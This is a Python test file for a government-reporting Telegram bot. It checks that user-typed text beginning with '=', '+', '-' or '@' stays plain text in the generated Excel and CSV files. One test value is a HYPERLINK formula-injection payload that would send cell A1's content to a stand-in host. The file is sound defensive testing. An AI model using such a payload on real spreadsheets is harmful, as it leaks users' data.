"""Text a person typed is printed as typed, never run as a formula (issue 9, item 1).

A round where every text that comes from a person (keterangan, the names of users and of the
head, bidang, sasaran, indicator and satuan names, return reasons, the office's address) starts
with "=", "+", "-" or "@" is taken to the end; then every file the bot writes of it is opened as
a zip and its sheet XML searched for formulas, and every such text is read back with openpyxl
exactly as typed. The CSV puts an apostrophe before such a text and nothing before a number.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable, Iterable
from dataclasses import dataclass, replace
from decimal import Decimal
from pathlib import Path
from xml.etree import ElementTree

import pytest
from openpyxl.workbook.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from bot.clock import FixedClock
from bot.documents.cells import write_cell
from bot.documents.indicator_sheet import read_indicator_rows, write_template
from bot.documents.workbook import layout
from bot.documents.workbook.format_sheet import HEADER_ROW, PENGHAMBAT_COL, REALISASI_COL
from bot.emulator.samples import pdf
from bot.sop import Role
from bot.workflow import approvals, bukti, files, filling, master, rounds, upload, verification
from bot.workflow.context import Ctx
from storage import queries
from storage.models import Round
from tests.conftest import (
    DAFDUK,
    KABID_CAPIL,
    KABID_DAFDUK,
    KASUBAG,
    KEPALA,
    OPERATOR,
    SEKRETARIS,
    Office,
    enrol,
    indicator,
)
from tests.workbooks import edit, format_file, opened

_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
LINK = '=HYPERLINK("http://x/?"&A1,"Klik")'

UMUM = "=Bidang Umum"
PELAYANAN = "@Bidang Pelayanan"
KABID_OF = {UMUM: KABID_DAFDUK, PELAYANAN: KABID_CAPIL}

NAMES = {
    OPERATOR: "=Andi",
    KASUBAG: "=Budi",
    SEKRETARIS: "+Citra",
    KEPALA: "@Ahmad",
    KABID_DAFDUK: LINK,
    KABID_CAPIL: "-Rina",
}
KOP = {
    "alamat": "=Jl. Merdeka No. 1",
    "tempat": "+Muara Beliti",
    "kepala_nama": "=Dr. H. Ahmad Fauzi",
    "kepala_pangkat": "@Pembina Utama Muda (IV/c)",
}
MASTER = (
    replace(
        indicator(UMUM, "=1+1", satuan="=%"),
        sasaran="=Meningkatnya tata kelola",
    ),
    replace(
        indicator(UMUM, "-Laju pertumbuhan", satuan="-persen", boleh_negatif=True),
        sasaran="+Meningkatnya layanan",
    ),
    replace(
        indicator(PELAYANAN, "@Jumlah akta", satuan="+lembar", targets=("9", "9", "9", "9")),
        sasaran="@Meningkatnya cakupan",
    ),
    replace(
        indicator(PELAYANAN, "+Cakupan KIA", satuan="@anak"),
        sasaran="-Menurunnya keluhan",
    ),
)
VALUES = {"=1+1": "95", "-Laju pertumbuhan": "-3.5", "@Jumlah akta": "9", "+Cakupan KIA": "80"}
KETERANGAN = {
    "=1+1": LINK,
    "-Laju pertumbuhan": "-turun karena pindah datang",
    "@Jumlah akta": "@petugas",
    "+Cakupan KIA": "+62 812 tidak aktif",
}
ANALISIS = {"penghambat": "=SUM(B2)", "upaya": "+jemput bola", "pendorong": "@tim lapangan"}
"""The analysis of every indicator (issue 14): printed in the format, the compiled workbook and
the SILAKIP export like any text a person typed."""
BUKTI = {name: f"{name}.pdf" for name in VALUES}
"""An evidence file per indicator, named as the indicator: the Bukti Dukung sheet lists it."""
REASONS = ("=ulangi angka", "-periksa lagi")
MASTER_TEXTS = {
    text for row in MASTER for text in (row.bidang, row.sasaran, row.indikator, row.satuan)
}


@dataclass(frozen=True)
class Hostile:
    ctx: Ctx
    round_id: int


def _press(
    ctx: Ctx, action: Callable[..., object], actor: int, round_id: int, **fields: object
) -> None:
    with ctx.read() as session:
        found = session.get(Round, round_id)
        assert found is not None
        version = found.version
    action(ctx, actor=actor, round_id=round_id, expected_version=version, **fields)


def _submission(ctx: Ctx, round_id: int, bidang: str) -> tuple[int, int]:
    with ctx.read() as session:
        found_bidang = queries.bidang_by_name(session, bidang)
        assert found_bidang is not None
        found = queries.submission_for(session, round_id, found_bidang.id)
        assert found is not None
        return found.id, found.version


def _fill_and_send(ctx: Ctx, round_id: int, bidang: str) -> None:
    kabid = KABID_OF[bidang]
    submission_id, _ = _submission(ctx, round_id, bidang)
    with ctx.read() as session:
        ids = {
            item.indicator.nama: item.indicator_id
            for item in queries.round_indicators(session, round_id)
            if item.indicator.bidang.nama == bidang
        }
        with_files = {row.indicator_id for row in queries.bukti_rows(session, round_id=round_id)}
    for nama, indicator_id in ids.items():
        fields = {"actor": kabid, "submission_id": submission_id, "indicator_id": indicator_id}
        filling.save_value(ctx, value=Decimal(VALUES[nama]), **fields)  # type: ignore[arg-type]
        filling.save_keterangan(ctx, text=KETERANGAN[nama], **fields)  # type: ignore[arg-type]
        for kind, text in ANALISIS.items():
            filling.save_analisis(ctx, kind=kind, text=text, **fields)  # type: ignore[arg-type]
        if indicator_id not in with_files:
            bukti.attach(ctx, content=pdf(nama), filename=BUKTI[nama], fallback="foto", **fields)  # type: ignore[arg-type]
    _, version = _submission(ctx, round_id, bidang)
    filling.send(ctx, actor=kabid, submission_id=submission_id, expected_version=version)


def _verify(ctx: Ctx, round_id: int, bidang: str) -> None:
    submission_id, version = _submission(ctx, round_id, bidang)
    verification.verify(ctx, actor=OPERATOR, submission_id=submission_id, expected_version=version)


@pytest.fixture
def hostile(ctx: Ctx, clock: FixedClock) -> Hostile:
    """The round taken to its end, with a return at step 5 and one at step 7 on the way."""
    master.set_office(ctx, **KOP)
    master.load_indicators(ctx, MASTER, 2026)
    for telegram_id, role in (
        (OPERATOR, Role.OPERATOR),
        (KASUBAG, Role.KASUBAG),
        (SEKRETARIS, Role.SEKRETARIS),
        (KEPALA, Role.KEPALA),
    ):
        enrol(ctx, telegram_id, NAMES[telegram_id], role)
    for bidang, kabid in KABID_OF.items():
        enrol(ctx, kabid, NAMES[kabid], Role.KABID, bidang)
    round_id = rounds.open_round(ctx, actor=OPERATOR, tahun=2026, triwulan=2).round.id
    for action, actor in (
        (rounds.submit_draft, OPERATOR),
        (rounds.approve_draft, KASUBAG),
        (rounds.distribute, OPERATOR),
    ):
        clock.advance(minutes=5)
        _press(ctx, action, actor, round_id)
    for bidang in KABID_OF:
        _fill_and_send(ctx, round_id, bidang)
    submission_id, version = _submission(ctx, round_id, UMUM)
    verification.return_submission(
        ctx,
        actor=OPERATOR,
        submission_id=submission_id,
        expected_version=version,
        reason=REASONS[0],
    )
    _fill_and_send(ctx, round_id, UMUM)
    for bidang in KABID_OF:
        _verify(ctx, round_id, bidang)
    clock.advance(minutes=5)
    _press(ctx, approvals.submit_compiled, OPERATOR, round_id)
    _press(ctx, approvals.return_round, KASUBAG, round_id, reason=REASONS[1])
    for action, actor in (
        (approvals.submit_compiled, OPERATOR),
        (approvals.approve, KASUBAG),
        (approvals.approve, SEKRETARIS),
        (approvals.approve, KEPALA),
        (approvals.finalise, OPERATOR),
    ):
        clock.advance(minutes=5)
        _press(ctx, action, actor, round_id)
    return Hostile(ctx, round_id)


def formulas(content: bytes) -> list[str]:
    """Every formula (or error) cell in the xlsx's sheet XML, as "sheet!cell: text"."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if not re.fullmatch(r"xl/worksheets/sheet\d+\.xml", name):
                continue
            for cell in ElementTree.fromstring(archive.read(name)).iter(f"{_MAIN}c"):
                formula = cell.find(f"{_MAIN}f")
                if formula is not None or cell.get("t") == "e":
                    text = formula.text if formula is not None else cell.findtext(f"{_MAIN}v")
                    found.append(f"{name}!{cell.get('r')}: {text}")
    return found


def texts_in(book: Workbook) -> set[str]:
    return {
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def assert_written_as_typed(content: bytes, typed: Iterable[str]) -> None:
    assert formulas(content) == []
    shown = texts_in(opened(content))
    missing = sorted(text for text in typed if text not in shown)
    assert missing == [], f"not read back as typed: {missing}"


PERSON_TEXTS = (
    MASTER_TEXTS
    | set(KETERANGAN.values())
    | set(ANALISIS.values())
    | set(BUKTI.values())
    | {KOP["alamat"], KOP["kepala_nama"], KOP["kepala_pangkat"]}
)


def test_the_hostile_round_is_what_the_scan_needs() -> None:
    """Every person-typed text of the round starts with a character a spreadsheet may run."""
    everything = PERSON_TEXTS | set(NAMES.values()) | set(REASONS) | set(KOP.values())
    assert all(text[0] in "=+-@" for text in everything)


@pytest.mark.parametrize("kind", ["rekap", "final"])
def test_compiled_workbook_writes_person_text_as_text(hostile: Hostile, kind: str) -> None:
    rendered = files.render(hostile.ctx, {"kind": kind, "round_id": hostile.round_id})
    assert rendered is not None
    # The Kepala signs under an appointment pre-filled from `init --kepala-*`, so the print
    # names the office's head, not the Telegram account.
    printed_names = {name for who, name in NAMES.items() if who != KEPALA}
    signer = {KOP["kepala_nama"], KOP["kepala_pangkat"]}
    assert_written_as_typed(rendered[1], PERSON_TEXTS | printed_names | signer)


def test_year_workbook_writes_person_text_as_text(hostile: Hostile) -> None:
    """The year's workbook carries every quarter's keterangan, on a sheet of its own; it has
    no signature block (no TW IV round), so the head's name is not printed."""
    _, content = files.yearly_for(hostile.ctx, actor=None, tahun=2026)
    unsigned = PERSON_TEXTS - {KOP["kepala_nama"], KOP["kepala_pangkat"]}
    assert_written_as_typed(content, unsigned)


def test_draft_of_an_open_round_writes_person_text_as_text(ctx: Ctx, clock: FixedClock) -> None:
    """The draft every bidang's format shares (step 2), before anyone has answered."""
    master.set_office(ctx, **KOP)
    master.load_indicators(ctx, MASTER, 2026)
    enrol(ctx, OPERATOR, NAMES[OPERATOR], Role.OPERATOR)
    round_id = rounds.open_round(ctx, actor=OPERATOR, tahun=2026, triwulan=2).round.id
    rendered = files.render(ctx, {"kind": "draft", "round_id": round_id})
    assert rendered is not None
    assert_written_as_typed(rendered[1], MASTER_TEXTS - {UMUM, PELAYANAN})
    rekap = files.render(ctx, {"kind": "rekap", "round_id": round_id})
    assert rekap is not None
    assert_written_as_typed(rekap[1], MASTER_TEXTS | {KOP["kepala_nama"]})


@pytest.mark.parametrize("bidang", list(KABID_OF))
def test_format_file_writes_person_text_as_text(hostile: Hostile, bidang: str) -> None:
    submission_id, _ = _submission(hostile.ctx, hostile.round_id, bidang)
    content = format_file(hostile.ctx, submission_id)
    own = [row for row in MASTER if row.bidang == bidang]
    typed = {t for row in own for t in (row.sasaran, row.indikator, row.satuan)}
    assert_written_as_typed(
        content, typed | {KETERANGAN[row.indikator] for row in own} | set(ANALISIS.values())
    )


def test_silakip_workbook_writes_person_text_as_text(hostile: Hostile) -> None:
    rendered = files.render(hostile.ctx, {"kind": "silakip", "round_id": hostile.round_id})
    assert rendered is not None
    assert_written_as_typed(
        rendered[1], MASTER_TEXTS | set(KETERANGAN.values()) | set(ANALISIS.values())
    )


def test_silakip_csv_quotes_person_text_and_keeps_numbers(hostile: Hostile) -> None:
    rendered = files.render(
        hostile.ctx, {"kind": "silakip", "round_id": hostile.round_id, "format": "csv"}
    )
    assert rendered is not None
    rows = list(csv.reader(io.StringIO(rendered[1].decode("utf-8-sig")), delimiter=";"))
    by_indikator = {row[3]: row for row in rows[1:]}
    laju = by_indikator["'-Laju pertumbuhan"]
    assert laju == [
        "2",
        "'=Bidang Umum",
        "'+Meningkatnya layanan",
        "'-Laju pertumbuhan",
        "'-persen",
        "95",
        "-3,5",
        "-3,68",
        "'-turun karena pindah datang",
        *("'" + text for text in ANALISIS.values()),
    ]
    for row in MASTER:
        cells = by_indikator["'" + row.indikator]
        assert cells[1:5] == ["'" + t for t in (row.bidang, row.sasaran, row.indikator, row.satuan)]
        assert cells[8] == "'" + KETERANGAN[row.indikator]


def test_indicator_template_writes_person_text_as_text(tmp_path: Path) -> None:
    path = tmp_path / "indikator.xlsx"
    write_template(path, MASTER)
    content = path.read_bytes()
    assert_written_as_typed(content, MASTER_TEXTS)
    assert [replace(row, row=0) for row in read_indicator_rows(path)] == list(MASTER)


@pytest.mark.parametrize("text", [LINK, "=1", "+1", "-1", "@a", "#N/A", "#REF!", "="])
def test_one_writer_keeps_any_text_a_string(text: str) -> None:
    """`layout.put` and the headings, paraf boxes and notes all rest on the one cell writer."""
    workbook = layout.new_workbook("uji")
    sheet = workbook.create_sheet("Uji")
    layout.put(sheet, 1, 1, text, "text")
    layout.write_notes(sheet, 2, [text], 1, 10)
    content = layout.to_bytes(workbook)
    assert formulas(content) == []
    read = opened(content)["Uji"]
    assert (read["A1"].value, read["A3"].value) == (text, text)
    assert read["A1"].data_type == "s"


def test_formula_like_analysis_sent_back_in_the_format_is_saved_and_printed_as_text(
    office: Office,
) -> None:
    """Issue 14: a Kabid writes the analysis in Excel as text starting with "="; it is saved as
    typed, and every file the bot writes of it keeps it text."""
    round_ = office.walk(at_step=4)
    submission = office.submission(round_.id, DAFDUK)
    typed = (LINK, ANALISIS["upaya"], ANALISIS["pendorong"])

    def type_in(sheet: Worksheet) -> None:
        for nomor, value in ((1, 90), (2, 7), (3, 5)):
            sheet.cell(HEADER_ROW + nomor, REALISASI_COL, value)
        for offset, text in enumerate(typed):
            write_cell(sheet, HEADER_ROW + 1, PENGHAMBAT_COL + offset, text)

    content = edit(format_file(office.ctx, submission.id), type_in)
    upload.apply_upload(office.ctx, actor=KABID_DAFDUK, content=content, filename="f.xlsx")
    first = office.items(submission)[0]
    assert (first.faktor_penghambat, first.upaya, first.faktor_pendorong) == typed
    assert_written_as_typed(format_file(office.ctx, submission.id), typed)
    rendered = files.render(office.ctx, {"kind": "rekap", "round_id": round_.id})
    assert rendered is not None
    assert_written_as_typed(rendered[1], typed)
